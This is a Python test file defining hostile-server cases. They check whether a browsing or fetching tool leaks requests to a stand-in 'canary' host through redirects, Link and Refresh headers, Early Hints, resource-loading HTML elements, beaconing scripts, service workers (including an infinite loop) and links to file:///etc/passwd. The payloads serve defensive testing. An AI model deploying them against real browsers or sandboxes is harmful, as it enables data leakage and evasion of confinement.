"""Addresses, headers, elements and scripts that lead to servers nobody may ask."""

from tests.hostile_server.answers import HEAD, HTML
from tests.hostile_server.case import KEPT, LOST, PAGE, WHOLE, Case, Reply, answer, page, script
from tests.hostile_server.leaving import moved
from tests.hostile_server.wires import BODY, LENGTH

TO_CANARIES: list[Case] = [
    moved("redirect-without-a-scheme", "{bare}/bare", KEPT, "outside the site"),
    moved(
        "redirect-with-a-password", "http://user:secret@127.0.0.1:{port}/password", KEPT, "outside the site"
    ),
    moved("redirect-to-a-socket", "ws:{bare}/", KEPT, "outside the site"),
    *(
        moved(f"redirect-to-{name}", target, LOST)
        for name, target in (
            ("ftp", "ftp://127.0.0.1:{port}/"),
            ("a-letter", "mailto:a@b.fr"),
            ("about-blank", "about:blank"),
            ("settings", "chrome://settings"),
            ("view-source", "view-source:{canary}"),
            ("a-blob", "blob:{canary}/x"),
            ("an-application", "intent:{bare}#Intent;end"),
        )
    ),
    answer(
        "refresh-header-to-javascript",
        WHOLE,
        body=b"<!doctype html><title>x</title><p>x",
        headers={"Refresh": "0; url=javascript:location='{canary}'"},
    ),
    answer(
        "links-in-headers",
        WHOLE,
        body=BODY,
        headers={
            "Link": "<{canary}/style>; rel=preload; as=style, <{canary}>; rel=preconnect, <{canary}/next>; "
            "rel=prefetch, <{canary}/module>; rel=modulepreload, <{canary}/dns>; rel=dns-prefetch, "
            "<{canary}/css>; rel=stylesheet",
            "Speculation-Rules": '"{canary}/rules"',
            "SourceMap": "{canary}/map",
            "Alt-Svc": 'h3=":{udp}"; ma=99, h2=":{port}"',
            "X-Frame-Options": "ALLOW-FROM {canary}",
            "Content-Location": "{canary}/place",
        },
    ),
    answer(
        "early-hints",
        WHOLE,
        raw=b"HTTP/1.1 103 Early Hints\r\nLink: <{canary}/early>; rel=preload; as=script, "
        b"<{canary}>; rel=preconnect\r\n\r\n" + HEAD + HTML + LENGTH + b"\r\n" + BODY,
    ),
    page(
        "base-elsewhere",
        "<base href='{canary}/'><link rel=stylesheet href=a><script src=b></script><img src=c><a "
        "href=d>x</a>",
        WHOLE,
    ),
    page(
        "elements-that-load",
        "<link rel=manifest href='{canary}/manifest'><link rel=modulepreload "
        "href='{canary}/module'><link rel='shortcut icon' href='{canary}/favicon'><link rel=search type="
        "application/opensearchdescription+xml href='{canary}/search'><object data='{canary}/object'></object><embed "
        "src='{canary}/embed'><video poster='{canary}/poster'><source src='{canary}/source'><track default "
        "src='{canary}/track'></video><audio src='{canary}/audio' preload=auto></audio><input type=image "
        "src='{canary}/input'><img srcset='{canary}/srcset 1x'><picture><source srcset='{canary}/picture'><img "
        "alt=x></picture><svg><image href='{canary}/svg'/><use href='{canary}/use#x'/><filter id=f><feImage "
        "href='{canary}/fe'/></filter></svg><body background='{canary}/body'><style>@import '{canary}/import'; "
        "@font-face { font-family: y; src: url('{canary}/font') } p { background: url('{canary}/css'); cursor: "
        "url('{canary}/cursor'), auto; font-family: y; shape-outside: url('{canary}/shape'); mask: "
        "url('{canary}/mask') }</style><iframe srcdoc=\"<img src='{canary}/srcdoc'>\"></iframe><iframe "
        "src='javascript:location=`{canary}/js`'></iframe><frameset><frame src='{canary}/frame'></frameset><portal "
        "src='{canary}/portal'></portal><fencedframe></fencedframe><table background='{canary}/table'></table>",
        WHOLE,
    ),
    script(
        "scripts-that-load",
        "const quiet = (f) => { try { f()?.catch?.(() => 0) } catch {} }; for (const f of [() => "
        "import('{canary}/import'), () => new SharedWorker('{canary}/shared'), () => new Worker('{canary}/worker'), "
        "() => new AudioContext().audioWorklet.addModule('{canary}/worklet'), () => "
        "CSS.paintWorklet.addModule('{canary}/paint'), () => fetch('{canary}/alive', {keepalive: true, mode: "
        "'no-cors'}), () => fetchLater('{canary}/later', {activateAfter: 0}), () => new "
        "WebSocketStream('ws:{bare}/stream'), () => navigator.credentials.get({identity: {providers: [{configURL: "
        "'{canary}/fedcm', clientId: 'x'}]}}), () => document.requestStorageAccessFor('{canary}'), () => "
        "fetch('{canary}/put', {method: 'PUT', body: 'x'}), () => { const x = new XMLHttpRequest(); x.open('GET', "
        "'{canary}/sync', false); x.send() }, () => new FontFace('z', 'url({canary}/fontface)').load(), () => new "
        "Audio('{canary}/sound').play(), () => { const p = document.createElement('a'); p.href = '#'; p.ping = "
        "'{canary}/ping'; p.click() }, () => new TCPSocket('127.0.0.1', {port}), () => "
        "navigator.serviceWorker.register('{canary}/sw.js')]) quiet(f); onpagehide = onbeforeunload = () => { "
        "navigator.sendBeacon('{canary}/bye', 'x') }",
        WHOLE,
    ),
    Case(
        "worker-of-all-pages-goes-away",
        Reply(
            (
                PAGE + "<script>navigator.serviceWorker.register('/away.js').then(() => "
                "navigator.serviceWorker.ready).then((r) => r.active.postMessage('go'))</script>"
            ).encode()
        ),
        WHOLE,
        "",
        {
            "/away.js": Reply(
                b"oninstall = () => skipWaiting(); onactivate = (e) => e.waitUntil(clients.claim()); onmessage "
                b"= async () => { for (const c of await clients.matchAll()) c.navigate('{canary}/navigate')"
                b".catch(() => 0); clients.openWindow('{canary}/open').catch(() => 0); fetch('{canary}/sw', "
                b"{mode: 'no-cors'}).catch(() => 0); importScripts('{canary}/late') }",
                "text/javascript",
            )
        },
    ),
    Case(
        "worker-of-all-pages-does-not-end",
        Reply((PAGE + "<script>navigator.serviceWorker.register('/loop.js')</script>").encode()),
        WHOLE,
        "",
        {"/loop.js": Reply(b"oninstall = () => { while (true) {} }", "text/javascript")},
    ),
    Case(
        "worker-of-all-pages-keeps-silent",
        Reply(
            (
                PAGE + "<script>navigator.serviceWorker.register('/mute.js').then(() "
                "=> navigator.serviceWorker.ready).then(() => { const i = new Image(); i.src = '/x.png'; "
                "document.body.append(i); fetch('/y') })</script>"
            ).encode()
        ),
        ("partial", "audited"),
        "",
        {
            "/mute.js": Reply(
                b"oninstall = () => skipWaiting(); onactivate = (e) => e.waitUntil(clients.claim()); onfetch = "
                b"(e) => e.respondWith(new Promise(() => 0))",
                "text/javascript",
            )
        },
    ),
    page(
        "links-by-other-schemes",
        "".join(
            f"<a id=l{n} href='{u}'>x</a><iframe src='{u}'></iframe>"
            for n, u in enumerate(
                [
                    "file:///etc/passwd",
                    "ftp://127.0.0.1:{port}/",
                    "chrome://version",
                    "view-source:{canary}",
                    "tel:112",
                    "javascript:location=`{canary}/j`",
                    "data:text/html,<script>location=`{canary}/d`</script>",
                    "filesystem:{canary}/x",
                    "devtools://devtools/bundled/inspector.html",
                    "about:srcdoc",
                    "intent:{bare}",
                ]
            )
        )
        + "<script>for (const a of document.links) try { a.click() } catch {}</script>",
        ("audited", "refused", "failed"),
    ),
    page(
        "forms-sent-by-frames",
        "<iframe name=w></iframe><form target=w method=post action='{canary}/inner'></form><form "
        "target=_blank action='{canary}/blank'></form><form target=_top action='{canary}/top'></form><script>for "
        "(const f of document.forms) f.submit()</script>",
        ("audited", "refused"),
    ),
]
